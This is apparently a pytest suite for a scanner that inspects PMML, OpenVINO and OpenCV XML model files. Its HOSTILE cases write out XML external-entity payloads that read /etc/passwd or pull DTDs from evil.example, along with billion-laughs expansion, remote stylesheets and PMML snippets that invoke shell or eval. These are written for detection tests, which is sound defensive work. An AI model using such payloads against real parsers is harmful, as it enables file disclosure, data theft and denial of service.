"""PMML, OpenVINO and OpenCV: fields, layers, constants and trees that are not there, and entities.

`benchmarks/reference_loaders.py` asks OpenVINO and OpenCV what they do with the hostile ones.
"""

from __future__ import annotations

import random
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelwarden.artifacts import Examined, examine
from modelwarden.core import GapKind
from modelwarden.formats import Limits, Source
from modelwarden.formats.xmltext import XmlText, read
from xmlmodels import (
    HAAR,
    INCLUDE,
    LAUGHS,
    START,
    TREE,
    cascade,
    constant,
    derived,
    edge,
    layer,
    loop,
    matrix,
    openvino,
    pmml,
    storage,
)


def examined(text: str | bytes) -> Examined:
    data = text.encode() if isinstance(text, str) else text
    with Source("m.xml", data) as source:
        return examine(source, Limits())


SOUND = {
    "pmml": pmml(),
    "pmml, its grammar by name": pmml(
        before='<!DOCTYPE PMML PUBLIC "PMML 2.0" "http://www.dmg.org/v2-0/pmml_v2_0.dtd">'
    ),
    "pmml, its grammar beside it": pmml(before='<!DOCTYPE PMML SYSTEM "pmml20.dtd">'),
    "pmml, a derived field": pmml(derived("log10")),
    "pmml, its own function": pmml(derived("mine", "mine")),
    "pmml, a small entity": pmml(
        before='<!DOCTYPE PMML [<!ENTITY us "our company">]>',
        application="<Annotation>&us;</Annotation>",
    ),
    "pmml, an extension": pmml(extra='<Extension extender="KNIME" name="a" value="b"/>'),
    "pmml, Latin": pmml(start='<?xml version="1.0" encoding="ISO-8859-1"?>'),
    "openvino": openvino(),
    "openvino, a loop": openvino(
        constant(), loop(constant(0) + layer(1), edge()), edges=edge(0, 0, 1, "")
    ),
    "openvino, four bits": openvino(constant(kind="u4", shape="5", size=3)),
    "openvino, a number alone": openvino(constant(shape="", size=4)),
    "openvino, version 7": openvino(
        layer(0, version="", data="<blobs><weights offset='0' size='9'/></blobs>"), version="7"
    ),
    "pmml, no model yet": pmml(""),
    "opencv, a matrix": storage(matrix()),
    "opencv, channels": storage(matrix(1, 2, '"3u"', "1 2 3 4 5 6")),
    "opencv, nothing": storage(matrix(0, 0, "d", "")),
    "opencv, packed": storage(matrix().replace("<data>", '<data type_id="binary">')),
    "opencv, a long matrix": storage(matrix(100, 1000, "f", "0.25 " * 100_000)),
    "opencv, a cascade": storage(cascade()),
    "opencv, a Haar cascade": storage(cascade(**HAAR)),
}


@pytest.mark.parametrize("text", SOUND.values(), ids=SOUND)
def test_a_sound_model_is_quiet(text: str):
    found = examined(text)

    assert (found.findings, found.gaps) == ([], [])
    assert found.coverage.format in ("pmml", "openvino", "opencv-xml")


def declared(entity: str) -> str:
    return pmml(before=f"<!DOCTYPE PMML [{entity}]>")


HOSTILE = {
    "pmml reads a file": (
        declared('<!ENTITY x SYSTEM "file:///etc/passwd">'),
        "xml-external-entity",
    ),
    "pmml asks a server": (
        declared('<!ENTITY x SYSTEM "http://evil.example/">'),
        "xml-external-entity",
    ),
    "pmml reads a file as declarations": (
        declared('<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;'),
        "xml-external-entity",
    ),
    "pmml reads a public file": (
        declared('<!ENTITY x PUBLIC "p" "file:///x">'),
        "xml-external-entity",
    ),
    "pmml reads an unparsed file": (
        declared('<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file:///x" NDATA n>'),
        "xml-external-entity",
    ),
    "pmml takes its grammar from a server": (
        pmml(before='<!DOCTYPE PMML SYSTEM "http://evil.example/x.dtd">'),
        "xml-external-entity",
    ),
    "pmml takes its grammar from a file": (
        pmml(before='<!DOCTYPE PMML SYSTEM "file:///etc/passwd">'),
        "xml-external-entity",
    ),
    "pmml takes its grammar from a false name": (
        pmml(before='<!DOCTYPE PMML SYSTEM "http://www.dmg.org.evil.example/x.dtd">'),
        "xml-external-entity",
    ),
    "any document reads a file": (
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///x">]><a>&x;</a>',
        "xml-external-entity",
    ),
    "pmml laughs a billion times": (pmml(before=LAUGHS), "xml-entity-expansion"),
    "pmml swells": (
        declared(f'<!ENTITY a "{"x" * 5000}"><!ENTITY b "{"&a;" * 1000}">'),
        "xml-entity-expansion",
    ),
    "pmml declares by entities": (declared('<!ENTITY % x "y">'), "xml-entity-expansion"),
    "pmml includes a file": (pmml(extra=INCLUDE), "xml-include"),
    "pmml applies a style sheet": (
        pmml(before='<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>'),
        "xml-include",
    ),
    "pmml loads a class of Java": (pmml(derived("com.example.Evil")), "model-custom-code"),
    "pmml calls an unknown function": (pmml(derived("shell")), "model-custom-code"),
    "pmml holds a script": (pmml(extra="<script>x</script>"), "model-custom-code"),
    "pmml holds Python": (
        pmml(extra='<Extension name="pre" value="import os"/>'),
        "model-custom-code",
    ),
    "pmml holds Python as text": (
        pmml(extra="<Extension>x = eval(y)</Extension>"),
        "model-custom-code",
    ),
    "pmml reads a table elsewhere": (
        pmml(TREE + '<TableLocator><Extension name="a"/></TableLocator>'),
        "model-outside-path",
    ),
    "openvino needs a foreign layer": (
        openvino(layer(1, "Evil", "extension")),
        "model-custom-code",
    ),
    "openvino needs a foreign layer in a loop": (
        openvino(loop(layer(1, "Evil", "mine"))),
        "model-custom-code",
    ),
    "openvino needs a layer of no set": (openvino(layer(1, "Evil", "")), "model-custom-code"),
    "openvino has a shape of other bytes": (openvino(constant(size=9)), "model-bad-reference"),
    "openvino has a shape that overflows": (
        openvino(constant(shape="4294967296,4294967296", size=16)),
        "model-bad-reference",
    ),
    "openvino has a negative offset": (openvino(constant(offset=-8)), "model-bad-reference"),
    "openvino has an offset that is none": (
        openvino(constant(offset="0x10")),
        "model-bad-reference",
    ),
    "openvino has a layer that is not there": (
        openvino(edges=edge(to=9)),
        "model-bad-reference",
    ),
    "openvino has a port that is not there": (
        openvino(layer(0), layer(1), edges=edge(into=77)),
        "model-bad-reference",
    ),
    "openvino has an edge in a loop to nowhere": (
        openvino(loop(layer(0), edge(0, 0, 9, 1))),
        "model-bad-reference",
    ),
    "opencv reads behind the numbers": (storage(matrix(5, 5)), "model-bad-reference"),
    "opencv writes behind the rows": (storage(matrix(1, 1)), "model-bad-reference"),
    "opencv has negative rows": (storage(matrix(-2, -3)), "model-bad-reference"),
    "opencv overflows": (storage(matrix(65536, 65536)), "model-bad-reference"),
    "opencv has a type that is none": (storage(matrix(kind="q")), "model-bad-reference"),
    "opencv has a matrix within another": (
        storage(matrix().replace("</data></a>", f"</data>{matrix()}</a>")),
        "model-bad-reference",
    ),
    "opencv has very many channels": (storage(matrix(kind='"9999d"')), "model-bad-reference"),
    "opencv steps behind the nodes": (
        storage(cascade("7 -1 0 1 2 3 4 5 6 7 8")),
        "model-bad-reference",
    ),
    "opencv steps in a circle": (
        storage(cascade("1 1 0 0.5 1 1 0 0.5", kind="HAAR", rect=HAAR["rect"])),
        "model-bad-reference",
    ),
    "opencv reads a leaf that is not there": (
        storage(cascade("0 -9 0 1 2 3 4 5 6 7 8")),
        "model-bad-reference",
    ),
    "opencv reads a feature that is not there": (
        storage(cascade("0 -1 500 1 2 3 4 5 6 7 8")),
        "model-bad-reference",
    ),
    "opencv has half a node": (storage(cascade("0 -1 0 1 2")), "model-bad-reference"),
    "opencv looks outside of the window": (
        storage(cascade(rect="<rect>20 20 9 9</rect>")),
        "model-bad-reference",
    ),
    "opencv looks before the window": (
        storage(cascade(rect="<rect>-4 0 1 1</rect>")),
        "model-bad-reference",
    ),
}


@pytest.mark.parametrize(("text", "rule"), HOSTILE.values(), ids=HOSTILE)
def test_what_reaches_outside_is_found(text: str, rule: str):
    assert rule in {finding.rule for finding in examined(text).findings}


INVALID = {
    "pmml, a field that is not declared": pmml(TREE.replace('field="x"', 'field="q"')),
    "pmml, a field of a derived field": pmml(derived("log10", field="q")),
    "pmml, more fields than declared": pmml(fields=3),
    "openvino, two layers of one number": openvino(layer(1), layer(1)),
    "openvino, a shape that is none": openvino(constant(shape="2,x")),
    "openvino, no layers": openvino("<!-- none -->"),
}


@pytest.mark.parametrize("text", INVALID.values(), ids=INVALID)
def test_what_contradicts_itself_is_told(text: str):
    assert [finding.rule for finding in examined(text).findings] == ["model-invalid"]


@pytest.mark.parametrize(
    ("size", "found"),
    [(24, []), (23, ["model-bad-reference"]), (5000, ["model-hidden-data"])],
)
def test_constants_lie_in_the_weights_beside_a_model(tmp_path: Path, size: int, found: list[str]):
    (tmp_path / "m.xml").write_text(openvino())
    (tmp_path / "m.bin").write_bytes(bytes(size))

    with Source.open(tmp_path / "m.xml", "m.xml") as source:
        assert [finding.rule for finding in examine(source, Limits()).findings] == found


def test_what_models_say_of_themselves_is_looked_at():
    home = "/home/alice/model.onnx"
    models = (
        pmml(extra=f'<Extension name="a" value="{home}"/>'),
        pmml(extra=f"<Annotation>from {home}</Annotation>"),
        openvino(info=f'<input_model value="{home}"/>'),
    )

    assert [[f.rule for f in examined(text).findings] for text in models] == [
        ["metadata-personal-path"]
    ] * 3


def test_the_producers_are_told():
    found = [examined(text).coverage.producer for text in (pmml(), openvino())]

    assert [by and (by.name, by.version) for by in found] == [
        ("KNIME", "2.8.0"),
        ("openvino", "2026.4.1"),
    ]


GAPS = {
    "cut off": (pmml()[:-20], GapKind.UNREADABLE),
    "not well-formed": (pmml(extra="<a></b>"), GapKind.UNREADABLE),
    "an entity that is not declared": (pmml(extra="&nothing;"), GapKind.UNREADABLE),
    "an encoding that is not read": (
        pmml(start='<?xml version="1.0" encoding="utf-7"?>'),
        GapKind.UNSUPPORTED,
    ),
    "elements without end": (pmml(extra="<a>" * 5000), GapKind.OVER_LIMIT),
    "trees that are not read": (
        storage("<opencv_ml_rtrees><nodes/></opencv_ml_rtrees>"),
        GapKind.UNSUPPORTED,
    ),
    "a cascade of the old form": (
        storage('<a type_id="opencv-haar-classifier"><size>20 20</size></a>'),
        GapKind.UNSUPPORTED,
    ),
    "a comment of 40 MB": (pmml(extra=f"<!-- {'x' * (40 << 20)} -->"), GapKind.OVER_LIMIT),
}


@pytest.mark.parametrize(("text", "kind"), GAPS.values(), ids=GAPS)
def test_what_is_not_read_is_a_gap(text: str, kind: GapKind):
    assert [gap.kind for gap in examined(text).gaps] == [kind]


def test_wide_text_is_read():
    text = pmml(TREE.replace('field="x"', 'field="q"'), start="")

    assert [f.rule for f in examined(text.encode("utf-16")).findings] == ["model-invalid"]


def test_other_documents_are_data_even_when_they_break_off():
    for text in ("<a><b></a>", "<svg xmlns='x'><g/></svg>", "<a>&nothing;</a>"):
        found = examined(START + text)

        assert (found.findings, found.gaps, found.coverage.format) == ([], [], "xml")


def test_how_much_there_is_is_told():
    view = read(Source("m", openvino().encode()), Limits())

    assert isinstance(view, XmlText)
    assert (view.root, view.elements, view.depth) == ("net", 19, 6)


def test_more_text_than_operations_is_a_gap():
    view = read(Source("m", (pmml() + " " * 100_000).encode()), Limits(operations=500))

    assert [gap.kind for gap in view.gaps] == [GapKind.OVER_LIMIT]


@given(st.text(alphabet="<>!-?[]\"'aX=&;% \n", max_size=200))
def test_any_text_is_survived(text: str):
    for front in ("<PMML ", "<PMML>", "<net version='1'>", "<opencv_storage>"):
        read(Source("m", (front + text).encode()), Limits())


SMALL = sorted(name for name, text in SOUND.items() if len(text) < 10_000)


@settings(max_examples=300)
@given(st.sampled_from(SMALL), st.integers(0, 1 << 32))
def test_mutated_models_are_survived(which: str, seed: int):
    rng = random.Random(seed)
    data = bytearray(SOUND[which].encode())
    for _ in range(rng.randint(1, 4)):
        data[rng.randrange(len(data))] = rng.randrange(256)

    assert GapKind.FAILED not in {gap.kind for gap in examined(bytes(data)).gaps}


@pytest.mark.parametrize(
    "name", ["pmml/iris_dectree.pmml.xml", "opencv/lbpcascade_frontalface.xml"]
)
def test_a_real_model_is_examined_and_quiet(shared: Path, name: str):
    path = shared / "data/models" / name
    with Source.open(path, path.name) as source:
        found = examine(source, Limits())

    assert (found.findings, found.gaps) == ([], [])
